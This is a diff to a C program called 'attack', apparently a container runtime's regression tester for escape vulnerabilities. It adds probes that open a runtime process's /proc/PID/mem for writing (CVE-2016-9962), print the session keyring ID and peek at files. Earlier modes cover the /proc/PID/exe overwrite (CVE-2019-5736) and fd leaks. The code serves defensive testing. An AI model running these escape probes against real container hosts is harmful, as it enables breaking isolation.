@@ -6,7 +6,10 @@
  *   swap A B          exchanges two names of one directory, as fast as the kernel allows (renameat2 RENAME_EXCHANGE)
  *   fds NAME [MS]     looks into /proc/PID/fd of every other process for a directory from which a file NAME can be opened, by ".." too
  *   exe [MS]          opens /proc/PID/exe of every other process, and when that has ended, again for writing (CVE-2019-5736)
+ *   mem [MS]          opens the memory of every process that is (still) the runtime (CVE-2016-9962)
+ *   keyring           prints the number of the session keyring
  *   open PATH         opens PATH for reading and writing; prints "open" or the error, ends
+ *   peek PATH         prints the first bytes of PATH, if it has some at once
  *   console SOCKET    the other side of --console-socket: takes the terminal, prints what comes out of it, ends when it hangs up
  */
 #define _GNU_SOURCE
@@ -18,6 +21,7 @@
 #include <string.h>
 #include <sys/socket.h>
 #include <sys/stat.h>
+#include <sys/syscall.h>
 #include <sys/un.h>
 #include <time.h>
 #include <unistd.h>
@@ -148,6 +152,38 @@ static int try_exe(const char *pid, const char *unused __attribute__((unused)))
 	return 0;
 }
 
+/* A process that joins us calls itself by the name of the runtime until it becomes a program of ours; whoever holds its memory then is it. */
+static int is_runtime(const char *pid)
+{
+	char path[64], name[256] = "";
+	int fd;
+	ssize_t n;
+
+	snprintf(path, sizeof path, "/proc/%s/cmdline", pid);
+	fd = open(path, O_RDONLY);
+	n = fd < 0 ? 0 : read(fd, name, sizeof name - 1);
+	close(fd);
+	return n > 0 && strstr(name, "runtime") != NULL;
+}
+
+static int try_mem(const char *pid, const char *unused __attribute__((unused)))
+{
+	char path[64];
+	int fd;
+
+	if (!is_runtime(pid))
+		return 0;
+	snprintf(path, sizeof path, "/proc/%s/mem", pid);
+	fd = open(path, O_RDWR);
+	if (fd >= 0 && is_runtime(pid)) {
+		printf("ESCAPE %s is open\n", path);
+		fflush(stdout);
+		return 1;
+	}
+	close(fd);
+	return 0;
+}
+
 static int attack_fds(char **argv)
 {
 	return each_process(argv[1] ? atol(argv[1]) : 0, try_fds, argv[0]);
@@ -156,6 +192,25 @@ static int attack_fds(char **argv)
 static int attack_exe(char **argv)
 {
 	return each_process(argv[0] ? atol(argv[0]) : 0, try_exe, NULL);
+}
+
+static int attack_mem(char **argv)
+{
+	return each_process(argv[0] ? atol(argv[0]) : 0, try_mem, NULL);
+}
+
+static int attack_keyring(char **argv __attribute__((unused)))
+{
+	return printf("%ld\n", syscall(SYS_keyctl, 0 /* KEYCTL_GET_KEYRING_ID */, -3 /* session */, 0)) < 0;
+}
+
+static int attack_peek(char **argv)
+{
+	char text[64];
+	int fd = open(argv[0], O_RDONLY | O_NONBLOCK | O_NOCTTY);
+	ssize_t n = fd < 0 ? 0 : read(fd, text, sizeof text);
+
+	return n > 0 && write(1, text, (size_t)n) != n;
 }
 
 static int attack_open(char **argv)
@@ -198,7 +253,10 @@ static const struct attack {
 	{ "swap", 2, attack_swap },
 	{ "fds", 1, attack_fds },
 	{ "exe", 0, attack_exe },
+	{ "mem", 0, attack_mem },
+	{ "keyring", 0, attack_keyring },
 	{ "open", 1, attack_open },
+	{ "peek", 1, attack_peek },
 	{ "console", 1, attack_console },
 };
 
@@ -207,6 +265,6 @@ int main(int argc, char **argv)
 	for (size_t i = 0; i < sizeof attacks / sizeof *attacks; i++)
 		if (argc >= 2 + attacks[i].words && strcmp(argv[1], attacks[i].name) == 0)
 			return attacks[i].run(argv + 2);
-	fputs("usage: attack swap A B | fds NAME [MS] | exe [MS] | open PATH | console SOCKET\n", stderr);
+	fputs("usage: attack swap A B | fds NAME [MS] | exe [MS] | mem [MS] | keyring | open PATH | peek PATH | console SOCKET\n", stderr);
 	return 2;
 }
